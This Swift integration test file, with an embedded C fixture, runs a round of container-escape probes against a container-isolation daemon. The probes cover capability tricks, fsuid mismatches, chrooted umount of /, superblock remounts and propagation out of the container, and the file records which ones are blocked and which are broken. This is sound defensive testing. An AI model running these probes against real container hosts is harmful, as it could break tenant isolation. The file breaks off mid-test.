import ECICore
import ECITestSupport
import Foundation
import Testing

extension Integration.Ecid {
    /// An attack round on 2b3a73e (302bf2b's change: eci-init leaves a locked container's
    /// program in a mount namespace owned by the container's own user namespace, a copy of a copy
    /// made through a nested user namespace) against ecid's trapped paths and the kernel-locked
    /// surface: the helper's credential emulation (per thread, fsuid, nested user namespaces),
    /// superblock remounts of the runtime's and the VM's superblocks, `umount2("/")` in a chroot,
    /// propagation out of the container, and the Docker-in-Docker sequence that must keep
    /// working. Each test states what must hold next to the legitimate neighbour; the outcome
    /// against 2b3a73e is in its doc comment.
    @Suite struct AttackRound7 {
        typealias A = EciInitAttacks

        /// The round's C fixture (static, in the container's /bin/r7).
        static let source = #"""
// Attack round 7 fixture (embedded in AttackRound7Tests.swift).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int set_admin(int on) {  // this thread only (raw capset)
    struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct d[2];
    if (syscall(SYS_capget, &h, d) < 0) return -1;
    if (on) d[0].effective |= 1u << CAP_SYS_ADMIN; else d[0].effective &= ~(1u << CAP_SYS_ADMIN);
    return (int)syscall(SYS_capset, &h, d);
}
static int try_mount(const char *path) {
    mkdir(path, 0755);
    return mount("none", path, "tmpfs", 0, NULL) < 0 ? errno : 0;
}
static pthread_barrier_t go, done;
static void *dropper(void *arg) {
    (void)arg;
    int rc = set_admin(0);
    printf("thread-dropped=%d (capset %d)\n", try_mount("/mnt/r7t1"), rc);
    return NULL;
}
static void *keeper(void *arg) {
    (void)arg;
    pthread_barrier_wait(&go);  // the leader drops meanwhile
    printf("thread-kept=%d\n", try_mount("/mnt/r7t3"));
    pthread_barrier_wait(&done);
    return NULL;
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "threads")) {
        pthread_t t;
        mkdir("/mnt", 0755);
        pthread_create(&t, NULL, dropper, NULL);
        pthread_join(t, NULL);
        printf("leader=%d\n", try_mount("/mnt/r7t2"));
        pthread_barrier_init(&go, NULL, 2);
        pthread_barrier_init(&done, NULL, 2);
        pthread_create(&t, NULL, keeper, NULL);
        set_admin(0);
        printf("leader-dropped=%d\n", try_mount("/mnt/r7t4"));
        pthread_barrier_wait(&go);
        pthread_barrier_wait(&done);
        pthread_join(t, NULL);
        return 0;
    }
    if (!strcmp(argv[1], "fsuid")) {
        // euid 0 with fsuid 1000 cannot look up a root-only directory (the kernel checks the
        // fsuid, and dropped the fs capabilities with it); the helper takes the effective uid.
        mkdir("/mnt", 0755);
        mkdir("/mnt/r7root", 0700);
        chmod("/mnt/r7root", 0700);
        mkdir("/mnt/r7root/x", 0755);
        setfsuid(1000);
        int fd = open("/mnt/r7root/x", O_PATH | O_DIRECTORY);
        int lookup = fd < 0 ? errno : 0;
        int fs = mount("none", "/mnt/r7root/x", "tmpfs", 0, NULL) < 0 ? errno : 0;
        setfsuid(0);
        printf("fsuid-lookup=%d\nfsuid-mount=%d\n", lookup, fs);
        return 0;
    }
    if (!strcmp(argv[1], "umount-root") && argc >= 3) {  // chroot at a mount's root, then umount2("/")
        if (chroot(argv[2]) < 0 || chdir("/") < 0) { printf("chroot=%d\n", errno); return 1; }
        int rc = umount2("/", 0);
        printf("umount-root=%d\n", rc < 0 ? errno : 0);
        int fd = open("/r7-probe", O_CREAT | O_WRONLY, 0644);
        printf("write-after=%d\n", fd < 0 ? errno : 0);
        return 0;
    }
    if (!strcmp(argv[1], "remount") && argc >= 5) {  // remount PATH FLAGS DATA
        unsigned long flags = strtoul(argv[3], NULL, 0);
        int rc = mount(NULL, argv[2], NULL, MS_REMOUNT | flags, argv[4][0] ? argv[4] : NULL);
        printf("remount %s %s=%d\n", argv[2], argv[4], rc < 0 ? errno : 0);
        return 0;
    }
    return 2;
}
"""#

        static func compile(into bundle: String) throws {
            try GrantAttacks.compile(source, into: bundle, at: "/bin/r7")
        }

        static func lines(_ text: String) -> Set<String> { Set(text.split(separator: "\n").map(String.init)) }

        /// Runs `script` as the program of the privileged container `id` (the fixture compiled in,
        /// `volume` bound at /vol when given) and returns its /out/report, printed under the
        /// test's name.
        static func report(_ sandbox: RuntimeSandbox, id: String, script: String, volume: String? = nil, test: String = #function) throws -> String {
            let bundle = try sandbox.makeBundle(id, script: script) {
                Integration.RuntimeLocks.privileged(&$0)
                if let volume { Integration.RuntimeLocks.addMount(&$0, ["destination": "/vol", "type": "bind", "source": volume, "options": ["rbind", "rw"]]) }
            }
            try Self.compile(into: bundle)
            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
            A.delete(sandbox, id)
            #expect(run.status == 0, "\(run.stderr)")
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.\(test): \(report)")
            return report
        }

        /// ecid's helper takes the caller's credentials from `/proc/TID/status`; capabilities are
        /// per thread (capset changes only the calling thread). (a) A thread that dropped
        /// CAP_SYS_ADMIN from its effective set while its thread group leader kept it mounts a
        /// tmpfs: the kernel would refuse (EPERM), so must the helper; (b) the leader drops it
        /// while a thread keeps it: the leader is refused and the thread, the neighbour, mounts.
        /// Against 2b3a73e: BLOCKED (`/proc/TID/status` is the calling thread's, and the caller
        /// is stopped in the call, so no other thread can change its credentials meanwhile).
        @Test func threadCredentialsAreTheCallingThreads() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let report = try Self.report(sandbox, id: "r7-threads", script: "/bin/r7 threads > /out/report 2>&1; echo done > /out/done")
            let got = Self.lines(report)
            #expect(got.contains("thread-dropped=1 (capset 0)"), "a thread without CAP_SYS_ADMIN mounted (its leader holds it): \(report) \(ecid.log().suffix(1500))")
            #expect(got.contains("leader-dropped=1"), "a leader without CAP_SYS_ADMIN mounted (a thread holds it): \(report)")
            #expect(got.contains("leader=0"), "the leader with CAP_SYS_ADMIN: \(report) \(ecid.log().suffix(1500))")
            #expect(got.contains("thread-kept=0"), "a thread that kept CAP_SYS_ADMIN: \(report) \(ecid.log().suffix(1500))")
        }

        /// A caller with euid 0 and fsuid 1000 (a deputy acting for a user, as file servers do)
        /// names a mount target below a root-only (0700) directory. The kernel resolves mount(2)'s
        /// paths as the fsuid, whose change dropped the fs capabilities: EACCES, as the same
        /// caller's own open(2) of the target gets (the control). ecid's helper takes the
        /// effective uid (`Credentials`: `Uid`'s second column; the fourth, the fsuid, is
        /// ignored), so it resolves as root and mounts. No escape (euid 0 may setfsuid(0)
        /// itself), a fidelity gap of the credential emulation: the helper acts with more than
        /// the caller's current file-system credentials.
        /// Against 2b3a73e: BROKEN (fidelity; fsuid-mount=0 where the kernel gives 13). Fix
        /// idea: take `Uid`'s and `Gid`'s fourth column and setfsuid/setfsgid to them after
        /// the effective IDs (and drop the fs capabilities as the kernel does when they differ).
        @Test func fsuidIsTheCallersForLookups() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let report = try Self.report(sandbox, id: "r7-fsuid", script: "/bin/r7 fsuid > /out/report 2>&1; echo done > /out/done")
            let got = Self.lines(report)
            #expect(got.contains("fsuid-lookup=13"), "the control: fsuid 1000 must not reach the root-only directory: \(report)")
            #expect(got.contains("fsuid-mount=13"), "ecid's helper resolved the target as euid 0 where the kernel resolves it as the fsuid: \(report) \(ecid.log().suffix(800))")
        }

        /// `umount2("/", 0)` by a process chrooted at a mount's root is untrapped in a locked
        /// container and makes that mount's *superblock* read-only (do_umount_root), a
        /// superblock remount ecid never sees. It must reach only the container's own
        /// superblocks: a chroot at a bind of a VM-side volume (a tmpfs the test mounted on the
        /// host, bound in with `-v`) must get EPERM and the volume stay writable for the VM.
        /// The neighbours: the same on a tmpfs of the container's own and on runc's /dev/shm
        /// (the container's superblock) turns it read-only (documented). Against 2b3a73e:
        /// BLOCKED (the kernel asks CAP_SYS_ADMIN over the superblock's user namespace: the
        /// VM's for the volume).
        @Test func chrootedUnmountOfRootReachesOnlyOwnSuperblocks() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let volume = sandbox.directory + "/r7-volume"
            try FileManager.default.createDirectory(atPath: volume, withIntermediateDirectories: true)
            #expect(try TestSupport.run(["/bin/mount", "-t", "tmpfs", "-o", "size=1m", "r7vol", volume]).status == 0)
            let id = "r7-chroot"
            let script = """
                mkdir -p /mnt/vol /mnt/own /mnt/ownb /mnt/shm
                mount --bind /vol /mnt/vol; echo bind-vol=$? > /out/report
                /bin/r7 umount-root /mnt/vol | sed 's/^/vol-/' >> /out/report
                mount -t tmpfs none /mnt/own && mount --bind /mnt/own /mnt/ownb && /bin/r7 umount-root /mnt/ownb | sed 's/^/own-/' >> /out/report
                mount --bind /dev/shm /mnt/shm && /bin/r7 umount-root /mnt/shm | sed 's/^/shm-/' >> /out/report
                echo done > /out/done
                """
            let report = try Self.report(sandbox, id: id, script: script, volume: volume)
            let got = Self.lines(report)
            #expect(got.contains("bind-vol=0") && got.contains("vol-umount-root=1"), "umount2(\"/\") at a bind of a VM volume: \(report) \(ecid.log().suffix(1500))")
            // The VM still writes the volume, and its superblock is read-write.
            let write = try TestSupport.run(["/bin/sh", "-c", "touch \(volume)/vm-writes && grep ' \(volume) ' /proc/self/mountinfo"])
            #expect(write.status == 0 && !write.stdout.contains(" ro,") && !write.stdout.contains(" ro\n"), "the VM's volume went read-only: \(write.stdout) \(write.stderr)")
            #expect(got.contains("own-umount-root=0") && got.contains("own-write-after=30"), "the container's own tmpfs: \(report)")
            #expect(got.contains("shm-umount-root=0"), "runc's /dev/shm (the container's superblock): \(report)")
        }

        /// Superblock remounts (MS_REMOUNT without MS_BIND: trapped, performed by the helper with
        /// the caller's credentials) change a superblock's options, which MNT_LOCK_* does not
        /// cover (those lock mount flags). Must hold: no option of a superblock the container
        /// does not own changes (a VM tmpfs volume's size and read-only state, the root file
        /// system's), no read-only initial mount (/sys, /proc/sys, the mask tmpfs on /proc/acpi)
        /// gets a writable superblock, and a fresh procfs made with `subset=pid` (ecid skips
        /// masks whose paths it lacks, so it has none) cannot be widened by a remount
        /// (`subset=`). The neighbours: options of the container's own superblocks change (runc's
        /// /dev/shm size, its /proc's hidepid, a read-only remount of the acpi mask's tmpfs).
        /// Against 2b3a73e: BLOCKED (the kernel asks CAP_SYS_ADMIN over the superblock's user
        /// namespace; ecid's `keepsLockedFlags` and MNT_LOCK_READONLY keep ro; the kernel's
        /// parser refuses an empty `subset=`, so pidonly cannot be turned off).
        @Test func superblockRemountsReachOnlyOwnSuperblocks() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let volume = sandbox.directory + "/r7-sbvolume"
            try FileManager.default.createDirectory(atPath: volume, withIntermediateDirectories: true)
            #expect(try TestSupport.run(["/bin/mount", "-t", "tmpfs", "-o", "size=1m", "r7sbvol", volume]).status == 0)
            let id = "r7-remount"
            let script = """
                {
                /bin/r7 remount /vol 0 size=4k
                /bin/r7 remount /vol 1 ''
                /bin/r7 remount /vol 0 mode=0700
                /bin/r7 remount / 0 ''
                /bin/r7 remount /sys 0 ''
                /bin/r7 remount /proc/sys 0 ''
                /bin/r7 remount /proc/acpi 0 ''
                /bin/r7 remount /proc/acpi 1 size=8k
                /bin/r7 remount /dev/shm 14 size=64k
                /bin/r7 remount /proc 0 hidepid=2
                mkdir -p /mnt/sp && mount -t proc -o subset=pid proc /mnt/sp; echo subset-mount=$?
                /bin/r7 remount /mnt/sp 0 subset=
                /bin/r7 remount /mnt/sp 0 subset
                [ -e /mnt/sp/keys ] && echo sp-keys-visible; [ -e /mnt/sp/sys/kernel ] && echo sp-sys-visible
                } > /out/report 2>&1; echo done > /out/done
                """
            let report = try Self.report(sandbox, id: id, script: script, volume: volume)
            let got = Self.lines(report)
            for refused in ["remount /vol size=4k", "remount /vol ", "remount /vol mode=0700", "remount / ", "remount /sys ", "remount /proc/sys ", "remount /proc/acpi "] {
                #expect(got.contains { $0.hasPrefix(refused + "=") } && !got.contains(refused + "=0"), "\(refused): \(report) \(ecid.log().suffix(1500))")
            }
            let vm = try TestSupport.run(["/bin/sh", "-c", "touch \(volume)/vm-writes && grep ' \(volume) ' /proc/self/mountinfo"])
            #expect(vm.status == 0 && vm.stdout.contains("size=1024k") && !vm.stdout.contains("mode=700"), "the VM's volume superblock changed: \(vm.stdout) \(vm.stderr)")
            #expect(got.contains("subset-mount=0"), "a fresh procfs with subset=pid: \(report) \(ecid.log().suffix(1500))")
            #expect(!got.contains("remount /mnt/sp subset==0") && !got.contains("remount /mnt/sp subset=0"), "subset=pid turned off: \(report)")
            #expect(!got.contains("sp-keys-visible") && !got.contains("sp-sys-visible"), "a maskless fresh procfs shows /proc/keys or /proc/sys: \(report)")
            // The neighbours: the container's own superblocks.
            for allowed in ["remount /proc/acpi size=8k=0", "remount /dev/shm size=64k=0", "remount /proc hidepid=2=0"] {
                #expect(got.contains(allowed), "\(allowed): \(report) \(ecid.log().suffix(1500))")
            }
        }

        /// Propagation out of the container: a VM-side shared tmpfs bound in with `rshared` (a
        /// CSI-style volume) is a peer of the VM's under runc alone. In a locked container the
        /// container's mounts below it (and below mounts it makes shared itself, and from a nested
        /// mount namespace with shared propagation) must not appear in the VM's namespace; the
        /// neighbour: a mount the VM makes there afterwards reaches the container (slave).
        /// Against 2b3a73e: BLOCKED (eci-init's copies across user namespaces turn every shared
        /// mount into a slave: nothing propagates back; rshared volumes are receive-only under ECI,
        /// a compatibility difference with runc).
        @Test func noMountEventLeavesTheContainer() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let shared = sandbox.directory + "/r7-shared"
            try FileManager.default.createDirectory(atPath: shared, withIntermediateDirectories: true)
            #expect(try TestSupport.run(["/bin/mount", "-t", "tmpfs", "r7shared", shared]).status == 0)
            #expect(try TestSupport.run(["/bin/mount", "--make-shared", shared]).status == 0)
            for dir in ["in1", "in2", "in3", "fromvm"] { try FileManager.default.createDirectory(atPath: shared + "/" + dir, withIntermediateDirectories: true) }
            let id = "r7-propagation"
            let script = """
                {
                mount -t tmpfs none /shared/in1; echo in1=$?
                mount --make-shared /shared; echo make-shared=$?
                mount -t tmpfs none /shared/in2; echo in2=$?
                unshare -m --propagation shared sh -c 'mount -t tmpfs none /shared/in3'; echo in3=$?
                grep -c ' /shared/in' /proc/self/mountinfo
                } > /out/report 2>&1; echo done > /out/done; exec sleep 4871
                """
            let bundle = try sandbox.makeBundle(id, script: script) {
                Integration.RuntimeLocks.privileged(&$0)
                Integration.RuntimeLocks.addMount(&$0, ["destination": "/shared", "type": "bind", "source": shared, "options": ["rbind", "rw", "rshared"]])
            }
            let started = try sandbox.runtimeDetached(["run", "-d", "--bundle", bundle, id])
            defer { A.delete(sandbox, id) }
            #expect(started.status == 0, "\(started.stderr)")
            let pid = try #require(try A.pid(of: "sleep 4871"))
            #expect(A.isLocked(pid))
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            let vmSees = try TestSupport.run(["/bin/sh", "-c", "grep ' \(shared)/' /proc/self/mountinfo; true"]).stdout
            print("AttackRound7.noMountEventLeavesTheContainer: \(report) VM sees: \(vmSees)")
            #expect(report.contains("in1=0") && report.contains("in2=0"), "the container's own mounts: \(report) \(ecid.log().suffix(1500))")
            #expect(vmSees.isEmpty, "a mount made in the container propagated into the VM's namespace: \(vmSees)")
            // The neighbour: VM → container.
            #expect(try TestSupport.run(["/bin/mount", "-t", "tmpfs", "r7fromvm", shared + "/fromvm"]).status == 0)
            let inside = try FileSystem.readText("/proc/\(pid)/mountinfo")
            #expect(inside.contains(" /shared/fromvm "), "a VM mount below an rshared volume did not reach the container: \(inside)")
        }

        /// A process in a nested user namespace of its own (rootless tools in a privileged
        /// container: `unshare -U -r -p -f`) while still in the container's mount namespace
        /// asks for a fresh procfs there: the kernel would refuse (no CAP_SYS_ADMIN over the
        /// container's mount namespace's owner), and ecid's helper, whose staging namespace is
        /// owned by that nested user namespace, must not move one in. The neighbour: the same with
        /// a mount namespace of its own (`-m`): the fresh procfs works, its masks are on
        /// (/proc/keys a character device) and locked (no unmount). Against 2b3a73e: BLOCKED.
        @Test func nestedUserNamespaceGetsFreshProcOnlyInItsOwnMountNamespace() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let id = "r7-nested-proc"
            let script = """
                mkdir -p /mnt/p /mnt/q
                {
                unshare -U -r -p -f sh -c 'mount -t proc proc /mnt/p'; echo attack=$?
                grep -c ' /mnt/p ' /proc/self/mountinfo
                unshare -U -r -m -p -f sh -c 'mount -t proc proc /mnt/q && echo own=0; [ -c /mnt/q/keys ] && echo keys-masked; umount /mnt/q/keys 2>/dev/null; echo umount-mask=$?'
                } > /out/report 2>&1; echo done > /out/done
                """
            let bundle = try sandbox.makeBundle(id, script: script) {
                Integration.RuntimeLocks.privileged(&$0)
                A.capabilities(&$0, ["CAP_SYS_ADMIN", "CAP_SYS_CHROOT", "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_SETUID", "CAP_SETGID", "CAP_SETFCAP"])
            }
            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
            A.delete(sandbox, id)
            #expect(run.status == 0, "\(run.stderr)")
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.nestedUserNamespaceGetsFreshProcOnlyInItsOwnMountNamespace: \(report)")
            let got = Self.lines(report)
            #expect(!got.contains("attack=0") && got.contains("0"), "a nested user namespace got a fresh procfs in the container's mount namespace: \(report) \(ecid.log().suffix(1500))")
            #expect(got.contains("own=0") && got.contains("keys-masked"), "rootless procfs in its own namespaces: \(report) \(ecid.log().suffix(1500))")
            #expect(got.contains("umount-mask=1") || got.contains { $0.hasPrefix("umount-mask=") && $0 != "umount-mask=0" }, "the fresh procfs's mask came off: \(report)")
        }

        /// The Docker-in-Docker sequence a nested runtime runs in a privileged container must keep
        /// working under the locks and traps: `unshare -m`, `mount --make-rprivate /`, a tmpfs with
        /// an overlay whose layers are inside the container, `pivot_root . old`, `umount -l /old`,
        /// a fresh procfs (masked: /proc/keys a character device that cannot be unmounted), one
        /// in a nested pid namespace on a directory of its own (as runc's rootfs/proc), and a read-only sysfs in a nested net namespace (masked:
        /// /sys/firmware empty). Against 2b3a73e: works (see the report).
        @Test func dockerInDockerSequenceWorks() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let id = "r7-dind"
            let inner = """
                mount --make-rprivate / && echo rprivate=0
                cd /t/m && pivot_root . old && cd / && echo pivot=0
                umount -l /old && echo umount-old=0
                mount -t proc proc /proc && echo proc=0
                [ -c /proc/keys ] && echo keys-masked
                umount /proc/keys 2>/dev/null; echo umount-keys=$?
                unshare -p -f -m sh -c 'mkdir -p /np && mount -t proc proc /np && [ -c /np/keys ] && echo nested-pid-proc-masked'
                unshare -n -m sh -c 'mount -t sysfs -o ro sysfs /sys && echo sysfs=0 && ls /sys/firmware | wc -l | sed s/^/firmware-entries=/'
                """
            try inner.write(toFile: sandbox.directory + "/r7-inner.sh", atomically: true, encoding: .utf8)
            let script = """
                {
                mkdir -p /t && mount -t tmpfs none /t && mkdir -p /t/l /t/u /t/w /t/m && cp -a /bin /t/l/ && mkdir -p /t/l/proc /t/l/sys /t/l/old /t/l/dev && cp /out/inner.sh /t/l/inner.sh && echo layers=0
                mount -t overlay overlay -o lowerdir=/t/l,upperdir=/t/u,workdir=/t/w /t/m && echo overlay=0
                unshare -m sh /t/m/inner.sh
                } > /out/report 2>&1; echo done > /out/done
                """
            let bundle = try sandbox.makeBundle(id, script: script) { Integration.RuntimeLocks.privileged(&$0) }
            try FileManager.default.copyItem(atPath: sandbox.directory + "/r7-inner.sh", toPath: bundle + "/out/inner.sh")
            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
            A.delete(sandbox, id)
            #expect(run.status == 0, "\(run.stderr)")
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.dockerInDockerSequenceWorks: \(report)")
            let got = Self.lines(report)
            for step in ["layers=0", "overlay=0", "rprivate=0", "pivot=0", "umount-old=0", "proc=0", "keys-masked", "nested-pid-proc-masked", "sysfs=0", "firmware-entries=0"] {
                #expect(got.contains(step), "\(step): \(report) \(ecid.log().suffix(2000))")
            }
            #expect(got.contains { $0.hasPrefix("umount-keys=") && $0 != "umount-keys=0" }, "the fresh procfs's mask came off: \(report)")
        }
        /// `unshare --pid --fork --mount-proc` (util-linux and busybox: make `/` rprivate in a new
        /// mount namespace, then mount a procfs of the new pid namespace over `/proc`), common in
        /// CI scripts and entrypoints of privileged containers, works under runc alone (runc's
        /// masks are not locked in its own namespace, so the kernel lets root cover /proc). Under
        /// ECI the fresh procfs is ecid's, with the container's masks, so covering /proc with it
        /// reveals nothing; it must work, masked (/proc/keys a character device, pid 1 the
        /// unshared shell). The neighbour: the same procfs on a directory of its own works.
        /// Against 2b3a73e: BROKEN (ecid's cover rule: a new mount on /proc "would cover" the
        /// masks below it, EPERM; see the printed report and ecid's log). Fix idea: let a fresh
        /// procfs (which gets the masks) cover a procfs mount whole in a mount namespace other than
        /// pid 1's (`runc exec` joins only pid 1's), or everywhere if a nested pid namespace's
        /// procfs is no fake /proc for runc's exec. "Everywhere" was tried and reverted:
        /// ecid-jail's swap race then stacked ~800 procfs mounts on the container's /proc,
        /// slowing every later call. Now allowed on a /proc that propagates nowhere, at most four
        /// deep (`MountCallPolicy.freshReplacesWhole`; the attacks on that
        /// rule: `mountProcStaysBoundedAndLocal`). The same for a fresh sysfs over /sys
        /// (`ip netns exec`), which hides the container's cgroup mount below.
        @Test func unshareMountProcWorks() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let id = "r7-mount-proc"
            let script = """
                {
                unshare -p -f -m sh -c 'mkdir -p /np && mount -t proc proc /np && [ -c /np/keys ] && echo own-dir-masked'
                unshare -p -f -m --mount-proc sh -c '[ -c /proc/keys ] && echo mount-proc-masked; cat /proc/1/comm | sed s/^/pid1=/'; echo mount-proc=$?
                grep -q ' /sys/fs/cgroup ' /proc/self/mountinfo && echo cgroup-below-sys
                unshare -m --propagation slave sh -c 'mount -t sysfs -o ro sysfs /sys; echo sysfs-cover=$?; ls /sys/firmware | wc -l | sed s/^/sys-firmware-entries=/; [ -d /sys/kernel ] && echo sys-kernel'
                } > /out/report 2>&1; echo done > /out/done
                """
            let bundle = try sandbox.makeBundle(id, script: script) { Integration.RuntimeLocks.privileged(&$0) }
            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
            A.delete(sandbox, id)
            #expect(run.status == 0, "\(run.stderr)")
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.unshareMountProcWorks: \(report) ecid: \(ecid.log().split(separator: "\n").filter { $0.contains("cover") }.suffix(3))")
            let got = Self.lines(report)
            #expect(got.contains("own-dir-masked"), "a fresh procfs of a nested pid namespace on a directory: \(report) \(ecid.log().suffix(1500))")
            #expect(got.contains("mount-proc=0") && got.contains("mount-proc-masked") && got.contains("pid1=sh"), "unshare --mount-proc: \(report) \(ecid.log().suffix(1500))")
            // `ip netns exec`'s sequence: a fresh sysfs over /sys, the container's cgroup mount
            // below it hidden (an empty directory of sysfs is all it covers), masked.
            #expect(got.contains("cgroup-below-sys"), "setup: \(report)")
            #expect(got.contains("sysfs-cover=0") && got.contains("sys-firmware-entries=0") && got.contains("sys-kernel"), "a fresh sysfs over /sys in a slave namespace: \(report) \(ecid.log().suffix(1500))")
            // As the container's entrypoint: pid 1 itself unshares, so the fresh procfs lands in
            // the namespace pid 1 is in (and `runc exec` would join), as under runc.
            let entry = try sandbox.makeBundle("r7-mount-proc-pid1", script: "exec unshare -p -f -m --mount-proc sh -c '{ [ -c /proc/keys ] && echo entry-masked; cat /proc/1/comm; } > /out/entry 2>&1'") {
                Integration.RuntimeLocks.privileged(&$0)
            }
            let entryRun = try sandbox.runtime(["run", "--bundle", entry, "r7-mount-proc-pid1"])
            A.delete(sandbox, "r7-mount-proc-pid1")
            let entryReport = (try? sandbox.output(entry, "entry")) ?? "(not run)"
            #expect(entryRun.status == 0 && entryReport == "entry-masked\nsh", "unshare --mount-proc as pid 1: \(entryReport) \(entryRun.stderr) \(ecid.log().suffix(1500))")
        }

        /// The attacks on `unshareMountProcWorks`' rule (a fresh procfs may replace a whole
        /// /proc that is in no peer group, at most four deep):
        /// (a) pid 1 mounts a fresh procfs over its own /proc: allowed (as under runc), masked;
        ///     (e, last) a loop of five more stops at four procfs mounts on /proc.
        /// (b) pid 1 makes / rshared first, and the nested namespace keeps that propagation
        ///     (`--propagation shared`, no rprivate; busybox's `unchanged` passes mount(2) flags
        ///     0, a new mount without a type): its /proc is a peer of pid 1's, and a fresh
        ///     procfs attached on it would be copied onto pid 1's /proc. Refused.
        /// (c) The nested namespace is made from the shared tree, then pid 1 turns its own /proc
        ///     into a slave of the peer group it shared with the nested /proc: the nested /proc
        ///     is then its master, and a mount on it would propagate to pid 1's. Refused.
        /// The neighbour: (d) a nested namespace made a slave of the shared tree (`ip netns
        /// exec`'s and `--propagation slave`) receives from pid 1's and sends nothing back: its
        /// fresh procfs works, masked. pid 1's /proc stack is what (a) made, from pid 1 and from
        /// a `runc exec` (its /proc/self resolves: same pid namespace; masked).
        /// Before the rule (everything refused by the cover rule): (a)-(c) BLOCKED, (d) BROKEN.
        /// With (b) and (c)'s condition removed, both put the fresh procfs on pid 1's /proc.
        @Test func mountProcStaysBoundedAndLocal() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let id = "r7-mount-proc-pid1"
            let procRows = #"awk '$5 == "/proc"' /proc/self/mountinfo | wc -l"#
            let script = """
                {
                mount -t proc proc /proc 2>/dev/null; echo pid1-cover=$?
                [ -c /proc/keys ] && echo pid1-cover-masked
                echo pid1-rows-a=$(\(procRows))
                mount --make-rshared / && echo rshared
                unshare -m --propagation shared sh -c 'grep -q "shared:" /proc/self/mountinfo && echo nested-shared; mount -t proc proc /proc 2>/dev/null; echo peer-cover=$?'
                echo pid1-rows-b=$(\(procRows))
                unshare -m --propagation shared sh -c 'touch /tmp/ready; for i in $(seq 200); do [ -e /tmp/go ] && break; sleep 0.05; done; mount -t proc proc /proc 2>/dev/null; echo master-cover=$?' &
                for i in $(seq 200); do [ -e /tmp/ready ] && break; sleep 0.05; done
                mount --make-slave /proc && echo pid1-proc-slave
                touch /tmp/go; wait
                echo pid1-rows-c=$(\(procRows))
                unshare -p -f -m --propagation slave sh -c 'mount -t proc proc /proc; echo slave-cover=$?; [ -c /proc/keys ] && echo slave-masked; cat /proc/1/comm | sed s/^/slave-pid1=/'
                echo pid1-rows-d=$(\(procRows))
                for i in 1 2 3 4 5; do mount -t proc proc /proc 2>/dev/null && echo stacked; done
                echo pid1-rows-e=$(\(procRows))
                [ -e /proc/self/stat ] && echo pid1-proc-self
                } > /out/report 2>&1; echo done > /out/done; exec sleep 4883
                """
            let bundle = try sandbox.makeBundle(id, script: script) { Integration.RuntimeLocks.privileged(&$0) }
            let started = try sandbox.runtimeDetached(["run", "-d", "--bundle", bundle, id])
            defer { A.delete(sandbox, id) }
            #expect(started.status == 0, "\(started.stderr)")
            _ = try #require(try A.pid(of: "sleep 4883"), "the script did not finish: \((try? sandbox.output(bundle, "report")) ?? "")")
            let exec = try sandbox.runtime(["exec", id, "sh", "-c", "echo exec-rows=$(\(procRows)); readlink /proc/self >/dev/null && echo exec-proc-self; tr '\\0' ' ' < /proc/1/cmdline"])
            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
            print("AttackRound7.mountProcStaysBoundedAndLocal: \(report) exec: \(exec.stdout) \(exec.stderr) ecid: \(ecid.log().split(separator: "\n").filter { $0.contains("cover") || $0.contains("pid 1's") || $0.contains("peer group") }.suffix(4))")
            let got = Self.lines(report)
            #expect(got.contains("pid1-cover=0") && got.contains("pid1-cover-masked"), "(a) a fresh procfs over pid 1's own /proc, masked: \(report) \(ecid.log().suffix(1500))")
            #expect(report.components(separatedBy: "\n").filter { $0 == "stacked" }.count == 2 && got.contains("pid1-rows-e=4"), "(e) at most four procfs mounts on /proc: \(report)")
            #expect(got.contains("rshared") && got.contains("nested-shared"), "(b) setup: \(report)")
            #expect(got.contains { $0.hasPrefix("peer-cover=") && $0 != "peer-cover=0" }, "(b) a fresh procfs over a /proc that is a peer of pid 1's: \(report)")
            #expect(got.contains("pid1-proc-slave"), "(c) setup: \(report)")
            #expect(got.contains { $0.hasPrefix("master-cover=") && $0 != "master-cover=0" }, "(c) a fresh procfs over the master of pid 1's /proc: \(report)")
            #expect(got.contains("slave-cover=0") && got.contains("slave-masked") && got.contains("slave-pid1=sh"), "(d) the neighbour, a slave namespace: \(report) \(ecid.log().suffix(1500))")
            for step in ["a", "b", "c", "d"] {
